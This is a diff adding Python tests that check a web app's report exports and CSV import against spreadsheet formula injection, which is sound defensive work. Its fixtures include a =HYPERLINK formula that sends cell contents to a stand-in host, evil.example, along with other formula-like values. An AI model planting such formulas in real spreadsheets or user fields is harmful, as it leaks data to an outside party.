@@ -465,3 +465,85 @@ def test_images_beyond_40_megapixels_are_refused_without_decoding(client, org, l
     assert db.session.scalars(select(Evidence)).all() == [] and db.session.scalars(select(Entry)).all() == []
     # A normal photo still goes in.
     assert _upload(client, plan, _png_header(4000, 3000), "anh.png").status_code == 302
+
+
+# ---- 3. formula injection: user text is never a live formula in .xlsx or CSV ------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C6&D6,"Bấm để xem")'
+
+
+def _commended_entry(org, action: str):
+    from app.core.db import utcnow
+    from app.core.enums import EntryStatus
+    from app.journal.models import Entry
+
+    now = utcnow()
+    entry = Entry(
+        user_id=org.member.id,
+        unit_id=org.branch.id,
+        deed_date=today_local(),
+        action=action,
+        status=EntryStatus.REVIEWED,
+        search_text="",
+        created_at=now,
+        updated_at=now,
+        submitted_at=now,
+        is_exemplary=True,
+        exemplary_at=now,
+        exemplary_note="@gương sáng",
+    )
+    db.session.add(entry)
+    return entry
+
+
+def test_report_exports_hold_user_text_as_text_never_as_formulas(client, org, login):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    member = db.session.get(User, org.member.id)
+    member.position = HYPERLINK
+    member.set_name("-Nguyễn Thị Mỹ Duyên")  # as an old record might hold it
+    org.branch.name = "+Chi đoàn Văn phòng"
+    _commended_entry(org, "=1+2*3")
+    _commended_entry(org, "\tTab ở đầu")
+    db.session.commit()
+    login("canbo")
+    year = today_local().year
+    url = f"/units/{org.root.id}/reports/export/commendations"
+    workbook = load_workbook(io.BytesIO(client.get(f"{url}.xlsx?year={year}").data))
+    cells = [
+        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
+    ]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the export"
+    texts = {c.value for c in cells}
+    # It reads the same to a person: the text itself, shown as text (Excel's quote prefix).
+    assert {HYPERLINK, "=1+2*3", "-Nguyễn Thị Mỹ Duyên", "+Chi đoàn Văn phòng"} <= texts
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t")
+
+    rows = list(csv.reader(io.StringIO(client.get(f"{url}.csv?year={year}").data.decode("utf-8-sig"))))
+    fields = [field for row in rows[1:] for field in row]
+    assert "'" + HYPERLINK in fields and "'=1+2*3" in fields and "'-Nguyễn Thị Mỹ Duyên" in fields
+    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_formula_for_a_name_is_refused_on_import(client, org, login):
+    import csv
+    import io
+
+    login("bithu")
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["STT", "Họ và tên", "Email"])
+    writer.writerow(["1", "@SUM(1+1)", "a@example.vn"])
+    writer.writerow(["2", '=HYPERLINK("http://evil.example","x")', "b@example.vn"])
+    writer.writerow(["3", "Lý Thị Hồng Nhung", "c@example.vn"])
+    response = client.post(
+        f"/units/{org.branch.id}/import",
+        data={"file": (io.BytesIO(out.getvalue().encode()), "ds.csv")},
+        content_type="multipart/form-data",
+    )
+    page = html(client.get(response.headers["Location"]))
+    assert page.count("Họ và tên phải bắt đầu bằng một chữ cái") == 2
+    assert "Nhập 1 người hợp lệ" in page
